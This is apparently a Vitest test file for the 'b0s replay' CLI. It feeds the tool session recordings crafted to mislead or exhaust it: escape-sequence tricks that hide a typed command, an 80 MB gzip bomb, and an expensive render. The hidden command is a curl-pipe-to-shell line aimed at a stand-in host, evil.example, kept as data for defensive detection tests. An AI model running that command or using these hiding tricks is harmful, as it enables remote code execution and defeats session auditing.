// `b0s replay` of recordings built to mislead or to exhaust it, run through the real CLI
// against a small server on 127.0.0.1 that serves them as the API would.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { b0s } from './helpers/world';
import { ENV_TOKEN } from './helpers/secrets';
import { gzipOf } from './helpers/gzip';

const SOCKET = '0b6e8f2e-2f36-4a0c-9c1e-5d1f3e7a9b10';
const CMD = 'curl -s http://evil.example/x.sh | sh';

interface Served {
  type: string;
  body: Buffer;
  contentType?: string;
}

const header = (width = 80, height = 24) => JSON.stringify({ version: 2, width, height, timestamp: 1795168800 });
const cast = (out: string[], width = 80, height = 24) => Buffer.from([header(width, height), ...out.map((o, i) => JSON.stringify([i / 10, 'o', o]))].join('\n'));
const queries = (...entries: object[]) => Buffer.from(entries.map((e) => JSON.stringify(e)).join('\n'));

/** Each session has one recording; its ID is the session's. */
const recordings: Record<string, Served> = {
  'a0000000-0000-4000-8000-000000000001': { type: 'asciinema', body: cast([`$ ${CMD}`, `\u001b[${CMD.length}Dls -la${' '.repeat(CMD.length - 6)}\r\n`, 'total 0\r\n$ ']) },
  'a0000000-0000-4000-8000-000000000002': {
    type: 'asciinema',
    body: cast(['$ id\r\n', `\u001b[2;5r\u001b[2;1H$ ${CMD}\r\n`, '\u001b[5;1H', 'one\r\ntwo\r\nthree\r\nfour\r\nfive\r\n', '\u001b[r\u001b[6;1H$ '], 80, 6),
  },
  'a0000000-0000-4000-8000-000000000003': { type: 'asciinema', body: cast([`$ ${CMD}\r\n`, '\u001b[A\u001b[M', '$ ls\r\n']) },
  'a0000000-0000-4000-8000-000000000004': { type: 'asciinema', body: cast(['$ sl', '\b\u001b[K', '\b\u001b[K', 'ls\r\n', 'Downloading  45%\rDownloading 100%\r\n']) },
  'a0000000-0000-4000-8000-000000000005': { type: 'asciinema', body: Buffer.from(['[0.1,"o","$ whoami\\r\\n"]', '[0.2,"o","root\\r\\n"]'].join('\n')) },
  'a0000000-0000-4000-8000-000000000006': { type: 'asciinema', body: cast(Array.from({ length: 50_000 }, () => '\u001b#8'), 1000, 500) },
  // Filled in before the tests: a gzip of one 80 MB event.
  'a0000000-0000-4000-8000-000000000007': { type: 'asciinema', body: Buffer.alloc(0), contentType: 'application/gzip' },
  'a0000000-0000-4000-8000-000000000008': {
    type: 'database_query_log',
    body: queries(
      { time: 1795168801123, database: 'prod-db', command: 'SELECT 1', status: 'ok', duration: 2, rows: 1, result: '1 row' },
      { time: 1795168802123, database: 'prod-db', command: 'DROP TABLE users', status: 'denied', duration: 1, rows: 0, result: 'command denied by policy' },
      { time: 1795168803123, database: 'prod-db', command: 'SELECT * FROM payments', status: 'error', duration: 3, rows: 0, result: 'ERROR: permission denied for table payments' },
    ),
  },
};


const served = { logs: 0 };
let server: http.Server;
let api = '';
const dirs: string[] = [];

beforeAll(async () => {
  recordings['a0000000-0000-4000-8000-000000000007']!.body = await gzipOf(`${header()}\n[0.1,"o","`, 80 * 1024 * 1024, '"]\n');
  server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const [, prefix, version, kind, socket, session, log] = url.pathname.split('/');
    const rec = session ? recordings[session] : undefined;
    if (req.headers['x-access-token'] !== ENV_TOKEN) {
      res.writeHead(401, { 'content-type': 'application/json' }).end('{"error_message":"unauthorized"}');
    } else if (`${prefix}/${version}` !== 'api/v1' || kind !== 'session' || socket !== SOCKET || !rec) {
      res.writeHead(404, { 'content-type': 'application/json' }).end('{"error_message":"not found"}');
    } else if (log === 'session_log') {
      served.logs++;
      res.writeHead(200, { 'content-type': rec.contentType ?? 'text/plain; charset=utf-8' }).end(rec.body);
    } else {
      const recording = { recording_id: session, recording_type: rec.type, start_time: '2026-11-20T10:00:00Z' };
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ session_id: session, socket_id: SOCKET, recordings: [recording] }));
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  api = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api/v1`;
});

afterAll(async () => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

const env = (extra: Record<string, string> = {}) => ({ BORDER0_API: api, BORDER0_ADMIN_TOKEN: ENV_TOKEN, ...extra });
const replay = (n: number, args: string[] = [], opts: Parameters<typeof b0s>[1] = {}) =>
  b0s(['replay', SOCKET, `a0000000-0000-4000-8000-00000000000${n}`, ...args], { env: env(), ...opts });

const HIDDEN = '── b0s: printed, then hidden by overwriting the line, erasing it or scrolling it away';

describe('replay of recordings that hide a command', () => {
  it.each([
    ['moving the cursor back and writing over it (CSI D)', 1, ['$ ls -la', 'total 0', '$']],
    ['a scroll region (CSI r)', 2, ['$ id', 'three', 'four', 'five', '', '$']],
    ['deleting its line (CSI M)', 3, ['$ ls']],
  ])('%s: the screen text a person saw, then the command, with a warning', async (_name, n, screen) => {
    const r = await replay(n);
    expect(r.code).toBe(0);
    const [dump, hidden] = r.stdout.split(`${HIDDEN} (`);
    expect(dump!.trimEnd().split('\n')).toEqual(screen);
    expect(hidden).toBeDefined();
    expect(hidden!.split('\n').slice(1)).toContain(`$ ${CMD}`);
    expect(r.stderr).toMatch(/^warning: recording a0000000-\S+ \(asciinema\) hid text it had printed (once|\d+ times) \(written over, erased or scrolled away\); it is listed after the screen text\n$/);
  });

  it('typing corrections and a progress bar are neither listed nor warned about', async () => {
    const r = await replay(4);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('$ ls\nDownloading 100%\n');
    expect(r.stderr).toBe('');
  });
});

describe('replay of recordings of the wrong shape or too costly', () => {
  it('a recording without its asciicast header plays on an 80x24 terminal, with a warning', async () => {
    const r = await replay(5);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('$ whoami\nroot\n');
    expect(r.stderr).toMatch(/^warning: recording a0000000-\S+ \(asciinema\): it has no asciicast header \(it starts with an event\), so it was played on an 80x24 terminal\n$/);
  });

  // Seconds of deliberate work by design (the budget counts work, not time): the test has
  // room for a busy machine.
  it('a recording past the work budget is one clear error; asciicast and raw still work', async () => {
    const text = await replay(6);
    expect(text.code).toBe(1);
    expect(text.stdout).toBe('');
    expect(text.stderr).toMatch(/^b0s: recording is too costly to show as text: .* of its 50,000\); use --format raw -O FILE for the recording as sent, or --format asciicast to play it\n$/);
    const asciicast = await replay(6, ['--format', 'asciicast']);
    expect(asciicast.code).toBe(0);
    const lines = asciicast.stdout.trimEnd().split('\n');
    expect(JSON.parse(lines[0]!)).toMatchObject({ version: 2, width: 1000, height: 500 });
    expect(lines).toHaveLength(50_001);
    const dir = mkdtempSync(path.join(os.tmpdir(), 'b0s-rec-replay-'));
    dirs.push(dir);
    const file = path.join(dir, 'rec.raw');
    const raw = await replay(6, ['--format', 'raw', '-O', file]);
    expect(raw.code).toBe(0);
    expect(readFileSync(file).equals(recordings['a0000000-0000-4000-8000-000000000006']!.body)).toBe(true);
  }, 60_000);

  it('a gzip body that would inflate past 64 MiB is one clear error, not an exhausted heap', async () => {
    const r = await replay(7);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe('b0s: recording is larger than 64 MiB once decompressed, more than b0s decompresses; use --format raw -O FILE to save it as sent (compressed)\n');
  });

  it('Ctrl-C while a recording renders stops it: exit 130', async () => {
    const controller = new AbortController();
    const before = served.logs;
    // Interrupted as soon as the recording has been sent, while it is being rendered.
    const watch = setInterval(() => {
      if (served.logs > before) controller.abort();
    }, 5);
    const r = await replay(6, [], { signal: controller.signal });
    clearInterval(watch);
    expect(r.code).toBe(130);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/interrupted/);
  });
});

describe('replay of a database session', () => {
  it('shows why a query failed or was denied, after its command', async () => {
    const r = await replay(8);
    expect(r.code).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/ok +1 row +2 ms +SELECT 1$/);
    expect(lines[1]).toMatch(/denied +0 rows +1 ms +DROP TABLE users {2}→ command denied by policy$/);
    expect(lines[2]).toMatch(/error +0 rows +3 ms +SELECT \* FROM payments {2}→ ERROR: permission denied for table payments$/);
    // eslint-disable-next-line no-control-regex
    expect(r.stdout).not.toMatch(/\u001b/);
  });

  it('on a terminal with colour, failed and denied queries stand out in red', async () => {
    const r = await replay(8, [], { env: env({ FORCE_COLOR: '1' }), tty: { stdout: true } });
    expect(r.code).toBe(0);
    const [ok, denied, failed] = r.stdout.trimEnd().split('\n');
    // eslint-disable-next-line no-control-regex
    expect(ok).not.toMatch(/\u001b/);
    expect(denied).toContain('\u001b[31mdenied');
    expect(denied).toContain('→ \u001b[31mcommand denied by policy\u001b[39m');
    expect(failed).toContain('→ \u001b[31mERROR: permission denied for table payments\u001b[39m');
    const plain = await replay(8, [], { env: env({ NO_COLOR: '1' }), tty: { stdout: true } });
    // eslint-disable-next-line no-control-regex
    expect(plain.stdout).not.toMatch(/\u001b/);
  });
});
